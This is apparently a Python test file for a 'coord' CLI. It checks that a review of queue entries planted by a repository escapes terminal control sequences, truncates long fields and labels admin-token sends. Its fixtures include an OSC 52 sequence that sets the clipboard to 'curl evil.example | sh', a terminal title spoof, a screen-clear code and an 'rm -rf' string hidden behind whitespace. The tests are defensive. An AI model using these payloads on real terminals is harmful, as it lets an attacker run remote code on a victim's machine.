"""``coord sync --review-foreign`` shows a planted queue entry so that it cannot hide or act on the terminal.

The entry comes from a file a repository wrote: its bytes reach the
victim's terminal only escaped (no OSC 52 clipboard write, no title change),
and the question shows the method, path, params and body that a yes would
send, a long one visibly cut. A real hub and a real ``coord`` subprocess.
"""

from __future__ import annotations

import json
from pathlib import Path

from tests.client.test_repo_attacks import A, B, Victim, cloned
from tests.client.test_repo_attacks import victim as victim  # noqa: F401 - the fixture, used by name
from tests.coordcli import git_init

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # sets the clipboard to "curl evil.example | sh"
TITLE = "\x1b]0;all good\x07"
C1_CSI = "\x9b2J"  # the 8-bit CSI: clears the screen on terminals that take C1 controls


def test_review_foreign_escapes_the_entry_and_shows_params_and_body(victim: Victim) -> None:
    entry = {"ts": "2026-01-01T00:00:00Z", "method": "POST", "path": "/api/coord/messages",
             "params": {"as": "x" * 3000 + "hidden-param"},
             "body": {"to_session": B, "subject": f"hi{OSC52}{TITLE}{C1_CSI}",
                      "body": " " * 5000 + "rm -rf the hidden part"}}
    lines = json.dumps(entry, ensure_ascii=False) + "\n" + f"not an entry {OSC52}{TITLE}\n"  # raw bytes, both
    clone = cloned(victim.tmp, {".claude/coord-queue.jsonl": lines})
    r = victim.coord(clone)("sync", "--review-foreign", stdin="n\n")
    assert r.code == 0, r
    shown = r.out + r.err
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown, repr(shown)
    assert "\\x1b]52;c;" in r.out and "\\x9b2J" in r.out  # shown, as escapes
    assert "    method: POST" in r.out and "    path:   /api/coord/messages" in r.out, r
    params = next(line for line in r.out.splitlines() if line.startswith("    params: "))
    body = next(line for line in r.out.splitlines() if line.startswith("    body:   "))
    assert "more characters not shown]" in params and "hidden-param" not in params, params
    assert "more characters not shown]" in body and "hidden part" not in body, body
    assert "send this POST to" in r.out and "left in the queue" in r.out, r
    assert victim.inbox_b() == []


def _seed001_queue(victim: Victim) -> Path:
    """A project whose .claude/coord-queue.jsonl seed 001's users wrote by hand: a component upsert, a message and
    a todo the hub refuses (an empty text)."""
    project = git_init(victim.tmp / "gururmm")
    lines = [{"ts": "2026-05-12T15:30:00Z", "method": "PUT", "path": "/api/coord/components/gururmm/server",
              "body": {"state": "deployed", "version": "0.3.0", "notes": "...", "updated_by": A}},
             {"ts": "2026-05-12T15:31:00Z", "method": "POST", "path": "/api/coord/messages",
              "body": {"from_session": A, "to_session": B, "subject": "declined", "body": "x"}},
             {"ts": "2026-05-12T15:32:00Z", "method": "POST", "path": "/api/coord/todos", "body": {"text": ""}}]
    (project / ".claude").mkdir()
    (project / ".claude" / "coord-queue.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines))
    return project


def test_review_foreign_counts_what_it_sent_and_keeps_json_on_stdout(victim: Victim) -> None:
    # after the review said "sent", the summary said "sent 0 queued write(s)"; with --json the entries and the
    # questions went to stdout ahead of the JSON (no longer one document), whose pending and foreign still counted
    # the entries the review had sent or had moved to the rejected file
    project = _seed001_queue(victim)
    r = victim.coord(project)("sync", "--review-foreign", "--json", stdin="y\nn\ny\n")
    assert r.code == 0, r
    result = r.json()
    assert {k: result[k] for k in ("applied", "pending", "foreign", "foreign_sent", "foreign_rejected")} == {
        "applied": 0, "pending": 1, "foreign": 1, "foreign_sent": 1, "foreign_rejected": 1}, r
    assert "send this PUT to" in r.err and "  sent" in r.err and "refused by the hub" in r.err, r
    left = (project / ".claude" / "coord-queue.jsonl").read_text().splitlines()
    assert [json.loads(x)["body"]["subject"] for x in left] == ["declined"]
    (project / ".claude" / "coord-queue.jsonl").write_text(left[0] + "\n")
    r = victim.coord(project)("sync", "--review-foreign", stdin="y\n")
    assert r.code == 0, r
    assert "sent 0 queued write(s)\nsent 1 entry not queued by you, as confirmed\n" in r.out, r
    assert [m["subject"] for m in victim.inbox_b()] == ["declined"]


def test_review_foreign_says_an_entry_goes_as_the_admin_when_the_token_is_the_hubs_admin_token(
        victim: Victim) -> None:
    # The question named the session the identity derives (DESKTOP-…/claude-main) for the hub's admin token given
    # in COORD_TOKEN, which acts as 'admin': the user was asked to send a repository's write as their session and a
    # yes sent it with the admin's rights (force-releases, tokens, any scope's halt).
    clone = cloned(victim.tmp, {".claude/coord-queue.jsonl": json.dumps(
        {"ts": "2026-01-01T00:00:00Z", "method": "POST", "path": "/api/coord/messages",
         "body": {"to_session": B, "subject": "planted", "body": "x"}}) + "\n"})
    env = {"COORD_TOKEN": victim.hub.admin_token, "COORD_DATA_DIR": str(victim.hub.data_dir)}
    r = victim.coord(clone, **env)("sync", "--review-foreign", stdin="n\n")
    assert r.code == 0, r
    assert f"send this POST to {victim.hub.url} as the admin?" in r.out, r
    assert victim.inbox_b() == []
